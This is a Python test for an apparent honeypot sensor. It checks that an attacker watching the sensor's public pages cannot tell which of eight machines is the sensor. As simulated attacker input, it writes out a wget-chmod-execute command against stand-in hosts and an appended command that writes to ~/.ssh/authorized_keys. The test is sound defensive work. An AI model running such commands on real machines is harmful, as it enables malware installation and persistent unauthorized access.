"""An attacker shows each of eight machines a URL and a payload of its own and watches every public byte.

The sensor among them is real from journal to pages: pipeline, store, gate, each page, feed and file of the site.
The gate alone, with more ways to mark a URL and with time, is in tests/judge/test_publication.py.
"""

from __future__ import annotations

import hashlib
import random
from pathlib import Path

from tests.pipeline.conftest import ELF, Bench
from tests.site.public.showing import SECRET

from urltrap.site.public.pages import Pages
from urltrap.site.public.snapshot import Source

CANDIDATES, TRIALS = 8, 10
ATTACKER = "203.0.113.66"
WORDS = ("apple", "pear", "plum", "fig", "date", "lime", "kiwi", "peach")


def attack(bench: Bench, url: bytes, body: bytes, address: str, besides: bytes = b"") -> None:
    bench.fetcher.bodies[url.decode()] = body
    session = bench.visit(
        b"wget " + url + b" -O y; chmod 755 y; ./y" + besides, asks=[(url, b"y")], runs=[[b"./y"]],
        uploads=[body + b"u"], address=address,
    )  # fmt: skip
    bench.trap_fetches(url, session)


def everything(bench: Bench, pages: Pages, source: Source) -> dict[str, bytes]:
    """Every public byte at this moment."""
    bench.settle()
    snapshot = source.snapshot()
    found = {name: pages.page(name, snapshot) for name in pages.names(snapshot)}
    return {name: page.body for name, page in found.items() if page is not None}


def marks(url: bytes, body: bytes) -> list[bytes]:
    """What would tell that a URL came out: its path, its id, the hashes of what it served and of what was uploaded."""
    hashes = [hashlib.sha256(data).hexdigest().encode() for data in (url, body, body + b"u")]
    return [url.rpartition(b"/")[2], *hashes]


def test_who_watches_every_public_byte_finds_the_sensor_no_better_than_by_chance(tmp_path: Path) -> None:
    dice = random.Random("watching")
    bench = Bench(tmp_path, testing={"public_networks": ["198.51.100.0/24"]})
    pages = Pages(bench.settings, live=False)
    source = Source(
        bench.store,
        bench.settings,
        SECRET,
        lambda: bench.time,
        frozenset({"192.0.2.10"}),
        kept=0,
        figures_kept=0,
    )
    natural = b"http://198.51.100.9/bins/mips"
    for address in ("192.0.2.201", "198.51.100.77"):  # others come too, and are seen
        attack(bench, natural, ELF, address)
    right, before = 0, everything(bench, pages, source)
    assert any(b"bins/mips" in body for body in before.values()), (
        "this is a site on which something is to be seen"
    )
    for trial in range(TRIALS):
        sensor = dice.randrange(CANDIDATES)
        shown = [b"http://198.51.100.66/%d-%s.sh" % (trial, word.encode()) for word in WORDS]
        bodies = [ELF + b"%d %d" % (trial, n) for n in range(CANDIDATES)]
        attack(bench, shown[sensor], bodies[sensor], ATTACKER)
        attack(
            bench, natural, ELF, ATTACKER, b"; crontab -l; echo x >> ~/.ssh/authorized_keys"
        )  # and one that is out
        after = everything(bench, pages, source)
        seen = [
            n
            for n in range(CANDIDATES)
            if any(mark in b"\n".join(after.values()) for mark in marks(shown[n], bodies[n]))
        ]
        changed = [name for name in after if after[name] != before.get(name)]
        guess = seen[0] if seen else sensor if changed else dice.randrange(CANDIDATES)
        right += guess == sensor
        before = after
    expected = TRIALS / CANDIDATES
    assert right <= expected + 3 * (expected * (1 - 1 / CANDIDATES)) ** 0.5, f"{right} of {TRIALS}"

    attack(bench, shown[sensor], bodies[sensor], "198.51.100.77")  # what a second network shows does come out
    after = everything(bench, pages, source)
    assert any(marks(shown[sensor], bodies[sensor])[0] in body for body in after.values())
    bench.close()
